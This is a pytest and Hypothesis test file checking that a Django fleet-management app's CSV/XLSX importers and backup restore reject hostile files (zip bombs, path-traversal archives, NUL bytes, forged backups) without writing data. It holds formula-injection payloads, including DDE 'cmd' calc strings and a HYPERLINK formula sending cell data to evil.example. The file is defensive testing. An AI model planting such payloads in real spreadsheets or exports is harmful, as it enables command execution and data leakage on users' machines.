"""Hostile files against the web's importers (issue 7 §2b): the fleet import page (GLPI,
NumEcoEval, impactnum CSV and XLSX), the fragility index import, `impactnum fleet import` and
`impactnum restore`.

Every hostile file gets a clear answer, never a 500 or a traceback: a 400 page listing the
errors with their lines, exit code 2 for the CLI; and nothing is written (rows counted before
and after, the uploaded file not kept). Valid content in a hostile dress (UTF-16, Windows-1252,
a formula as a model name) is imported as text.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import tarfile
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from impactnum.cli import main
from impactnum.web.core.models import AuditEvent
from impactnum.web.fleet.imports import native as native_import
from impactnum.web.fleet.imports.templates import xlsx_template
from impactnum.web.fleet.models import Asset, AssetEvent, Department, Location
from impactnum.web.territory.models import FragilityIndex, FragilityRow

HOSTILE = settings(
    deadline=None,
    derandomize=True,
    max_examples=25,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
NATIVE = "kind;model;serial_number;department\r\n"
GLPI_HEADER = '"Nom";"Entité";"Statut";"Fabricant";"Type";"Modèle";"Numéro de série"\r\n'


def fleet_rows() -> tuple[int, ...]:
    return (
        Asset.objects.count(),
        AssetEvent.objects.count(),
        Location.objects.count(),
        Department.objects.count(),
        AuditEvent.objects.count(),
    )


def xlsx(rows: list[list[object]]) -> bytes:
    wb = Workbook()
    for row in rows:
        wb.active.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


VALID_XLSX = xlsx([["kind", "model", "serial_number"], ["laptop", "T14", "S-1"]])


def _cut(data: tuple[bytes, int]) -> bytes:
    whole, where = data
    return whole[: where % len(whole)]


def _flip(data: tuple[bytes, int, int]) -> bytes:
    whole, where, byte = data
    at = where % len(whole)
    return whole[:at] + bytes([byte]) + whole[at + 1 :]


hostile_uploads = st.one_of(
    st.binary(max_size=2000),
    st.binary(max_size=500).map(lambda junk: b"PK\x03\x04" + junk),  # "XLSX" junk
    st.tuples(st.just(VALID_XLSX), st.integers(0, 10**6)).map(_cut),  # a truncated XLSX
    st.tuples(st.just(VALID_XLSX), st.integers(0, 10**6), st.integers(0, 255)).map(_flip),
    st.sampled_from(
        [
            b"",
            NATIVE.encode(),  # a header only
            (NATIVE + "laptop;T14;S-1;DSI\r\n").encode("utf-16-le"),  # UTF-16 without BOM
            (NATIVE + "laptop;T\x00;S-1;DSI\r\n").encode(),  # a NUL byte
            (NATIVE + "laptop;T14;S-1;Direction \xe9coles\r\n").encode("latin-1"),
            b"\xef\xbb\xbf" + GLPI_HEADER.encode() + b'"PC1";"Ville";"\xff\xfe";"HP"\r\n',
            b"kind;kind\r\nlaptop;desktop\r\n",  # a duplicate header
            b"kind|model\r\nlaptop|T14\r\n",  # a wrong separator
            (NATIVE + "laptop;" + "M" * 1_000_000 + ";S-1;DSI\r\n").encode(),  # a 1 MB field
            b'kind;model\r\n"laptop;T14\r\n',  # an unclosed quote
        ]
    ),
    st.lists(st.sampled_from(FORMULAS), min_size=1, max_size=3).map(
        lambda cells: (
            (NATIVE + "".join(f"laptop;{c};S-{i};{c}\r\n" for i, c in enumerate(cells)))
            .replace(";", ",")
            .encode()
        )
    ),
)


@pytest.fixture
def tech(city, make_user):
    return make_user("technician", city)


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return tmp_path / "media"


def post_fleet_file(client, org, data: bytes, name: str = "parc.csv", **extra: str):
    upload = SimpleUploadedFile(name, data)
    return client.post(reverse("fleet:import"), {"organisation": org.slug, "file": upload, **extra})


# --- the fleet import page --------------------------------------------------------------------


@HOSTILE
@given(data=hostile_uploads)
def test_fleet_import_page_answers_400_or_a_preview_and_writes_nothing(
    client, city, tech, media, data: bytes
) -> None:
    client.force_login(tech)
    before = fleet_rows()
    page = post_fleet_file(client, city, data)
    assert page.status_code in (200, 400)
    assert fleet_rows() == before  # a preview never writes
    if page.status_code == 400:
        parsed = page.context["parsed"]
        assert parsed.error_total and all(e.reason and len(e.reason) <= 300 for e in parsed.errors)
        assert b"Traceback" not in page.content
        digest = hashlib.sha256(data).hexdigest()
        assert not list((media / "imports").glob(f"{digest}.*"))  # the refused file is not kept


@pytest.mark.parametrize(
    ("data", "name", "expected"),
    [
        ((NATIVE + "laptop;T\x00;S;D\r\n").encode(), "nul.csv", "nul.csv:2: a NUL byte"),
        (
            (NATIVE + "laptop;" + "M" * 1_000_000 + ";S;D\r\n").encode(),
            "big.csv",
            "big.csv:2: column &#x27;model&#x27;: longer than 200 characters",
        ),
        (b"Kind;kind\r\nlaptop;x\r\n", "dup.csv", "dup.csv:1: column &#x27;kind&#x27;: this"),
        (VALID_XLSX[:300], "cut.xlsx", "cut.xlsx: not a readable XLSX file"),
        (
            xlsx([["kind", "Kind"], ["laptop", "desktop"]]),
            "dup.xlsx",
            "dup.xlsx:1: column &#x27;kind&#x27;: this column appears more than once",
        ),
        (
            xlsx([["kind", "model"], ["laptop", "M" * 32_000]]),
            "long.xlsx",
            "long.xlsx:2: column &#x27;model&#x27;: longer than 200 characters",
        ),
    ],
)
def test_fleet_import_errors_name_file_line_and_why(
    client, city, tech, media, data, name, expected
) -> None:
    client.force_login(tech)
    before = fleet_rows()
    page = post_fleet_file(client, city, data, name)
    assert page.status_code == 400 and expected in page.content.decode()
    assert fleet_rows() == before


def test_an_xlsx_bomb_is_refused_before_it_is_unpacked(client, city, tech, media, monkeypatch):
    """The unpacked size is read from the ZIP's directory: a small limit stands in for the real
    one (512 MB), so the test stays cheap."""
    monkeypatch.setattr(native_import, "XLSX_MAX_UNPACKED", 1 << 20)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(VALID_XLSX)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        dst.writestr("xl/padding.bin", b"\x00" * (2 << 20), zipfile.ZIP_DEFLATED)
    assert len(out.getvalue()) < 50_000
    client.force_login(tech)
    before = fleet_rows()
    page = post_fleet_file(client, city, out.getvalue(), "bomb.xlsx")
    assert page.status_code == 400 and "too large once unzipped" in page.content.decode()
    assert fleet_rows() == before


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "cp1252", "utf-8-sig"])
def test_valid_content_in_another_encoding_imports_as_text(client, city, tech, media, encoding):
    text = NATIVE + "laptop;=cmd|' /C calc'!A0;S-1;Écoles\r\n"
    client.force_login(tech)
    before = fleet_rows()
    page = post_fleet_file(client, city, text.encode(encoding))
    assert page.status_code == 200, page.content.decode()[:2000]
    assert fleet_rows() == before
    done = client.post(
        reverse("fleet:import"),
        {
            "organisation": city.slug,
            "format": "auto",
            "digest": page.context["digest"],
            "name": "parc.csv",
            "token": page.context["plan"].token,
            "confirm": "1",
        },
    )
    assert done.status_code == 302
    asset = Asset.objects.get()
    assert asset.model == "=cmd|' /C calc'!A0" and asset.department.name == "Écoles"


def test_an_xlsx_formula_is_not_evaluated(client, city, tech, media):
    """openpyxl writes `=…` as a formula without a cached value: it is read as an empty cell,
    never run; a text cell holding `=…` is read as that text."""
    formula = '=HYPERLINK("http://evil.example")'
    data = xlsx([["kind", "serial_number", "model"], ["laptop", "S-1", formula]])
    client.force_login(tech)
    page = post_fleet_file(client, city, data, "f.xlsx")
    assert page.status_code == 200
    (creation,) = page.context["plan"].to_create
    assert "model" not in creation.fields
    template = xlsx_template()
    assert template.startswith(b"PK")  # the real template still reads
    assert post_fleet_file(client, city, template, "t.xlsx").status_code in (200, 400)


@settings(HOSTILE, max_examples=15)
@given(data=hostile_uploads)
def test_fleet_import_cli_exits_2_and_writes_nothing(city, tmp_path_factory, data: bytes):
    path = tmp_path_factory.mktemp("cli") / "parc.csv"
    path.write_bytes(data)
    before = fleet_rows()
    res = CliRunner().invoke(main, ["fleet", "import", str(path), "--organisation", city.slug])
    assert res.exit_code in (0, 2), res.output
    assert res.exception is None or isinstance(res.exception, SystemExit)
    if res.exit_code == 2:
        assert fleet_rows() == before


# --- the fragility index ------------------------------------------------------------------------

INDEX_HEADER = (
    "code_insee;commune;acces_interfaces;acces_information;competences_administratives;"
    "competences_numeriques;score_global\r\n"
)


def index_rows() -> tuple[int, int, int]:
    return FragilityIndex.objects.count(), FragilityRow.objects.count(), AuditEvent.objects.count()


@pytest.fixture
def manager(city, make_user):
    return make_user("administrator", city)


def post_index(client, city, data: bytes):
    upload = SimpleUploadedFile("indice.csv", data)
    return client.post("/territory/targeting/import/", {"organisation": city.slug, "file": upload})


hostile_indexes = st.one_of(
    st.binary(max_size=2000),
    st.sampled_from(
        [
            b"",
            INDEX_HEADER.encode(),
            INDEX_HEADER.encode("utf-16"),
            (INDEX_HEADER + "58194;Nev\x00ers;1;2;3;4;5\r\n").encode(),
            (INDEX_HEADER + "58194;Nevers;1;2;3;4;" + "9" * 1_000_000 + "\r\n").encode(),
            (INDEX_HEADER + "58194;" + "N" * 151 + ";1;2;3;4;5\r\n").encode(),
            (INDEX_HEADER + "58194;Nevers;inf;2;3;4;5\r\n").encode(),
            (INDEX_HEADER + "58194;Nevers;1e999;2;3;4;-5\r\n").encode(),
            (INDEX_HEADER + "58194;Nevers;1;2;3;4;5\r\n").encode("cp1252"),
            (INDEX_HEADER.replace(";", "|") + "58194|Nevers|1|2|3|4|5\r\n").encode(),
        ]
    ),
    st.lists(st.sampled_from(FORMULAS), min_size=1, max_size=3).map(
        lambda names: (
            INDEX_HEADER.replace(";", ",")
            + "".join(f'"",{json.dumps(n)},1,2,3,4,{i}\r\n' for i, n in enumerate(names))
        ).encode()
    ),
)


@HOSTILE
@given(data=hostile_indexes)
def test_fragility_import_answers_400_or_imports_all(client, city, manager, data: bytes):
    client.force_login(manager)
    before = index_rows()
    page = post_index(client, city, data)
    assert page.status_code in (302, 400)
    if page.status_code == 400:
        assert page.context["import_errors"] or page.context["form"].errors
        assert index_rows() == before
    else:
        assert index_rows()[0] == before[0] + 1


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        ("58194;Nevers;1;2;3;4;" + "9" * 1_000_000, "fichier CSV illisible"),
        ("58194;" + "N" * 151 + ";1;2;3;4;5", "ligne 2 : nom de commune trop long"),
        ("58194;Nev\x00ers;1;2;3;4;5", "ligne 2 : octet nul"),
        ("58194;Nevers;inf;2;3;4;5", "ligne 2 : acces_interfaces : « inf » n"),
    ],
)
def test_fragility_errors_are_clear_and_nothing_is_saved(client, city, manager, row, expected):
    client.force_login(manager)
    before = index_rows()
    page = post_index(client, city, (INDEX_HEADER + row + "\r\n").encode())
    assert page.status_code == 400
    assert any(expected in e for e in page.context["import_errors"]), page.context["import_errors"]
    assert index_rows() == before


def test_fragility_commune_names_that_look_like_formulas_are_kept_as_text(client, city, manager):
    client.force_login(manager)
    body = INDEX_HEADER + "".join(f";{n};1;2;3;4;{i}\r\n" for i, n in enumerate(FORMULAS[:2]))
    assert post_index(client, city, body.encode()).status_code == 302
    assert sorted(FragilityRow.objects.values_list("commune", flat=True)) == sorted(FORMULAS[:2])


# --- `impactnum restore` -------------------------------------------------------------------------


def tar_gz(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    return out.getvalue()


def manifest(members: dict[str, str], **extra: object) -> bytes:
    body = {
        "format": 1,
        "created_at": "2026-01-01T00:00:00",
        "impactnum_version": "0",
        "engine_version": "0",
        "database_vendor": "sqlite",
        "members": members,
        **extra,
    }
    return json.dumps(body).encode()


hostile_archives = st.one_of(
    st.binary(max_size=1000),
    st.binary(max_size=1000).map(gzip.compress),
    st.tuples(st.just(tar_gz({"manifest.json": manifest({})})), st.integers(0, 10**6)).map(_cut),
    st.sampled_from(
        [
            tar_gz({"manifest.json": b"[1, 2]"}),
            tar_gz({"manifest.json": b"{}"}),
            tar_gz({"manifest.json": manifest([["a", 1]])}),  # type: ignore[arg-type]
            tar_gz({"manifest.json": manifest({"database.sqlite3": 5})}),  # type: ignore[dict-item]
            tar_gz({"manifest.json": b"\xff\xfe junk"}),
            tar_gz({"database.sqlite3": b"x"}),
            tar_gz({"manifest.json": manifest({}), "../escape": b"x"}),
            tar_gz(
                {
                    "manifest.json": manifest({"database.sqlite3": "0" * 64}),
                    "database.sqlite3": b"x",
                }
            ),
        ]
    ),
)


@HOSTILE
@given(data=hostile_archives)
def test_a_hostile_backup_is_refused_with_a_clear_error(tmp_path_factory, data: bytes):
    from impactnum.web.core.backup import BackupError, read_and_verify

    work = tmp_path_factory.mktemp("restore")
    archive = work / "backup.tar.gz"
    archive.write_bytes(data)
    with pytest.raises(BackupError) as exc:
        read_and_verify(archive, work / "unpacked")
    assert str(exc.value).strip()


def test_restore_cli_exits_2_on_junk_and_on_a_junk_database(tmp_path: Path, db) -> None:
    junk = tmp_path / "junk.tar.gz"
    junk.write_bytes(b"\x1f\x8b\x08\x00 not really gzip")
    res = CliRunner().invoke(main, ["restore", str(junk), "--yes"])
    assert res.exit_code == 2 and "not a readable backup" in res.output
    if connection.vendor != "sqlite":
        return
    fake_db = b"SQLite? no: a text file" * 10
    digest = hashlib.sha256(fake_db).hexdigest()
    forged = tmp_path / "forged.tar.gz"
    forged.write_bytes(
        tar_gz(
            {"manifest.json": manifest({"database.sqlite3": digest}), "database.sqlite3": fake_db}
        )
    )
    before = fleet_rows()
    res = CliRunner().invoke(main, ["restore", str(forged), "--yes"])
    assert res.exit_code == 2 and "not SQLite's" in res.output, res.output
    assert fleet_rows() == before
